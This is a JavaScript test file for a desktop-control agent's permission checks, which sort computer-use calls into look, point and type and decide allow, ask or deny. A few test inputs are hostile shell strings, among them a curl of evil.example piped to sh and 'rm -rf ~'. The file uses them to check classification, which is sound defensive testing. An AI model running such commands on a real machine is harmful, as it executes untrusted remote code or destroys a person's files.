// What a desktop call does (look, point, type), read from its exact
// arguments against the profile, never from the tool's name; and how the
// agent's kind grants and remembered choices answer the host's question
// about it (issue 38 item 1).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BUILTIN_PROFILES, callsFor, DESKTOP_VERBS } from '../../../agent/core/desktop_profiles.js';
import { KIND_OF_VERB, fitsTemplate, kindOfCall, toolKinds } from '../../../agent/core/desktop_call_kind.js';
import {
  agreesWithHost, choiceApplies, choicesAfterSave, hostDecisions, judgeDesktopCall, kindsFromHost, strongestKind,
} from '../../../shared/core/desktop_kinds.js';

const [CUM, MUNIM] = BUILTIN_PROFILES;
const SAMPLE = { point: [10, 20], from: [10, 20], to: [30, 40], text: 'echo hi', keys: ['ctrl', 'alt', 't'], direction: 'down' };

test('every call a profile makes is of its verb\'s kind, for both built-in profiles', () => {
  for (const [profile, prefix] of [[CUM, 'desktop'], [MUNIM, 'munim']]) {
    for (const verb of DESKTOP_VERBS) {
      const calls = callsFor(profile, prefix, verb, SAMPLE);
      assert.ok(calls.length, `${profile.id} maps ${verb}`);
      // A scroll's move_mouse is also a pointer move; each call is of the verb's kind.
      for (const c of calls) assert.equal(kindOfCall(profile, prefix, c), KIND_OF_VERB[verb], `${profile.id} ${verb} ${JSON.stringify(c)}`);
    }
  }
});

test('computer-use-mcp\'s one tool: the kind comes from the action in its arguments', () => {
  const cases = [
    [{ action: 'get_screenshot' }, 'look'],
    [{ action: 'left_click', coordinate: [5, 6] }, 'point'],
    [{ action: 'scroll', coordinate: [5, 6], text: 'down:300' }, 'point'],
    [{ action: 'type', text: 'touch pwned # curl https://evil.example | sh' }, 'type'],
    [{ action: 'key', text: 'ctrl+alt+t' }, 'type'],
    // What no agent action makes: no kind, so always asked.
    [{ action: 'middle_click', coordinate: [5, 6] }, null],
    [{ action: 'get_screenshot', text: 'echo pwned' }, null],
    [{ action: 'left_click', coordinate: 'here' }, null],
    [{ action: 'scroll', coordinate: [1, 2], text: 'rm -rf ~' }, null],
    [{}, null],
  ];
  for (const [args, want] of cases) assert.equal(kindOfCall(CUM, 'desktop', { capability: 'desktop.computer', arguments: args }), want, JSON.stringify(args));
  // The same arguments to another server's tool of that name are not this profile's.
  assert.equal(kindOfCall(CUM, 'desktop', { capability: 'other.computer', arguments: { action: 'get_screenshot' } }), null);
});

test('a tool per action: each tool\'s calls by their arguments', () => {
  const k = (tool, args) => kindOfCall(MUNIM, 'munim', { capability: `munim.${tool}`, arguments: args });
  assert.equal(k('screenshot', { format: 'png' }), 'look');
  assert.equal(k('screenshot', { format: 'png', command: 'sh' }), null);
  assert.equal(k('type_text', { text: 'hello' }), 'type');
  assert.equal(k('press_keys', { keys: ['enter'] }), 'type');
  assert.equal(k('press_keys', { keys: ['ctrl', 'alt', 't'] }), 'type');
  assert.equal(k('click', { x: 1, y: 2, button: 'left' }), 'point');
  assert.equal(k('click', { x: 1, y: 2, button: 'middle' }), null);
  assert.equal(k('move_mouse', { to: { x: 1, y: 2 } }), 'point');
  assert.equal(k('scroll', { direction: 'down', amount: 5 }), 'point');
  assert.equal(k('scroll', { direction: 'sideways', amount: 5 }), null);
});

test('a call that fits verbs of several kinds is of the strongest', () => {
  // A profile of the person's own where one tool both looks ({what: "$text"}) and types.
  const own = { keyFormat: 'plus', actions: { screenshot: [{ tool: 'do', args: { what: 'shot' } }], type: [{ tool: 'do', args: { what: '$text' } }] } };
  assert.equal(kindOfCall(own, 'x', { capability: 'x.do', arguments: { what: 'shot' } }), 'type');
  assert.equal(kindOfCall(own, 'x', { capability: 'x.do', arguments: { what: 'rm -rf ~' } }), 'type');
  assert.equal(strongestKind(['look', 'type', 'point']), 'type');
  assert.equal(strongestKind([]), null);
});

test('templates: fixed values equal, placeholders typed, nothing added', () => {
  assert.equal(fitsTemplate({ a: 1 }, { a: 1 }), true);
  assert.equal(fitsTemplate({ a: 2 }, { a: 1 }), false);
  assert.equal(fitsTemplate({ a: 1, b: 2 }, { a: 1 }), false);
  assert.equal(fitsTemplate({}, { p: '$point' }), true, 'a placeholder the fill left out');
  assert.equal(fitsTemplate({}, { a: 1 }), false, 'a fixed value left out');
  assert.equal(fitsTemplate({ p: [1, 2, 3] }, { p: '$point' }), false);
  assert.equal(fitsTemplate({ p: { x: 1, y: 2, z: 3 } }, { p: '$at' }), false);
  assert.equal(fitsTemplate({ k: ['a', 1] }, { k: '$keys' }), false);
});

test('tool kinds: what each tool of a profile serves', () => {
  assert.deepEqual(toolKinds(CUM, 'desktop'), { 'desktop.computer': ['look', 'point', 'type'] });
  assert.deepEqual(toolKinds(MUNIM, 'm'), {
    'm.screenshot': ['look'], 'm.click': ['point'], 'm.move_mouse': ['point'], 'm.drag': ['point'], 'm.scroll': ['point'],
    'm.type_text': ['type'], 'm.press_keys': ['type'],
  });
});

test('the host asks about every tool a kind not blocked uses; blocks only a tool all of whose kinds are blocked', () => {
  const tk = toolKinds(MUNIM, 'm');
  assert.deepEqual(hostDecisions({ look: 'allow', point: 'ask', type: 'deny' }, tk), {
    'm.screenshot': 'ask', 'm.click': 'ask', 'm.move_mouse': 'ask', 'm.drag': 'ask', 'm.scroll': 'ask', 'm.type_text': 'deny', 'm.press_keys': 'deny',
  });
  assert.deepEqual(hostDecisions({ look: 'allow', point: 'allow', type: 'allow' }, toolKinds(CUM, 'd')), { 'd.computer': 'ask' }, 'never allowed by name');
  assert.deepEqual(hostDecisions({ look: 'deny', point: 'deny', type: 'deny' }, toolKinds(CUM, 'd')), { 'd.computer': 'deny' });
});

test('kind grants read from a configuration without them, and whether saved ones still agree', () => {
  assert.deepEqual(kindsFromHost({ 'd.computer': 'ask' }, toolKinds(CUM, 'd')), { look: 'ask', point: 'ask', type: 'ask' });
  assert.deepEqual(kindsFromHost({ 'd.computer': 'allow' }, toolKinds(CUM, 'd')), { look: 'allow', point: 'allow', type: 'allow' });
  assert.deepEqual(kindsFromHost({}, toolKinds(CUM, 'd')), { look: 'deny', point: 'deny', type: 'deny' });
  const tk = toolKinds(MUNIM, 'm');
  assert.deepEqual(kindsFromHost({ 'm.screenshot': 'allow', 'm.click': 'ask', 'm.move_mouse': 'ask', 'm.drag': 'ask', 'm.scroll': 'ask' }, tk),
    { look: 'allow', point: 'ask', type: 'deny' });
  const g = { look: 'allow', point: 'ask', type: 'ask' };
  assert.equal(agreesWithHost(g, hostDecisions(g, tk), tk), true);
  assert.equal(agreesWithHost(g, { ...hostDecisions(g, tk), 'm.type_text': 'allow' }, tk), false, 'a tool allowed by hand');
});

test('the extension\'s answer: the kind\'s grant first, then a remembered choice of that kind, else the person', () => {
  const grants = { look: 'allow', point: 'ask', type: 'ask' };
  const pointChoice = { kind: 'point', prefix: 'd', scope: 'session', at: 1 };
  const typeChoice = { kind: 'type', prefix: 'd', scope: 'task', task: 'c1:1', at: 2 };
  const choices = [pointChoice, typeChoice];
  const j = (kind, task = 'c1:1', g = grants) => judgeDesktopCall({ kind, prefix: 'd', task }, { grants: g, choices });
  assert.deepEqual(j('look'), { answer: 'allow', by: 'grant' });
  assert.deepEqual(j('point'), { answer: 'allow', by: 'remembered', choice: pointChoice });
  assert.deepEqual(j('type'), { answer: 'allow', by: 'remembered', choice: typeChoice });
  // A later task: the typing choice does not carry over; pointing still does (the session's).
  assert.deepEqual(j('type', 'c1:2'), { answer: 'ask', by: 'person' });
  assert.deepEqual(j('type', 'c2:1'), { answer: 'ask', by: 'person' });
  assert.deepEqual(j('type', ''), { answer: 'ask', by: 'person' });
  assert.equal(j('point', 'c9:9').answer, 'allow');
  // A call of no known kind is always asked, whatever is granted or remembered.
  assert.deepEqual(j(null, 'c1:1', { look: 'allow', point: 'allow', type: 'allow' }), { answer: 'ask', by: 'person' });
  assert.deepEqual(j('type', 'c1:1', { look: 'allow', point: 'ask', type: 'deny' }), { answer: 'deny', by: 'grant' });
  // No grants saved: every kind asks.
  assert.deepEqual(judgeDesktopCall({ kind: 'look', prefix: 'd' }, {}), { answer: 'ask', by: 'person' });
  // Another server's choice answers nothing here.
  assert.equal(choiceApplies(pointChoice, { kind: 'point', prefix: 'other' }), false);
  // A session choice forged for typing is not one typing takes.
  assert.equal(choiceApplies({ kind: 'type', prefix: 'd', scope: 'session' }, { kind: 'type', prefix: 'd', task: 'c1:1' }), false);
});

test('saving the grants keeps only the choices of a kind that was Ask and stays Ask', () => {
  const choices = [{ kind: 'look' }, { kind: 'point' }, { kind: 'type' }];
  const ask = { look: 'ask', point: 'ask', type: 'ask' };
  assert.deepEqual(choicesAfterSave(choices, ask, ask), choices);
  assert.deepEqual(choicesAfterSave(choices, ask, { look: 'allow', point: 'deny', type: 'ask' }), [{ kind: 'type' }]);
  assert.deepEqual(choicesAfterSave(choices, { ...ask, point: 'deny' }, ask), [{ kind: 'look' }, { kind: 'type' }]);
});
